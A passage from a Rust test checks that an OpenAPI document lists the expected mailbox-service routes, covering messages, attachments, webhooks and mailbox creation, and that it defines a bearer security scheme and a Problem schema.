        "GET /api/v1/domains",
        "GET /api/v1/mailboxes/{address}/events",
        "GET /api/v1/mailboxes/{address}/messages",
        "GET /api/v1/mailboxes/{address}/messages/wait",
        "GET /api/v1/mailboxes/{address}/messages/{id}",
        "GET /api/v1/mailboxes/{address}/messages/{id}/attachments/{n}",
        "GET /api/v1/mailboxes/{address}/messages/{id}/html",
        "GET /api/v1/mailboxes/{address}/messages/{id}/raw",
        "GET /api/v1/mailboxes/{address}/webhooks",
        "GET /api/v1/mailboxes/{address}/ws",
        "POST /api/v1/mailboxes",
        "POST /api/v1/mailboxes/{address}/extend",
        "POST /api/v1/mailboxes/{address}/webhooks",
    ];
    assert_eq!(listed, want);
    assert!(doc["components"]["securitySchemes"]["bearer"].is_object());
    assert!(doc["components"]["schemas"]["Problem"].is_object());
}
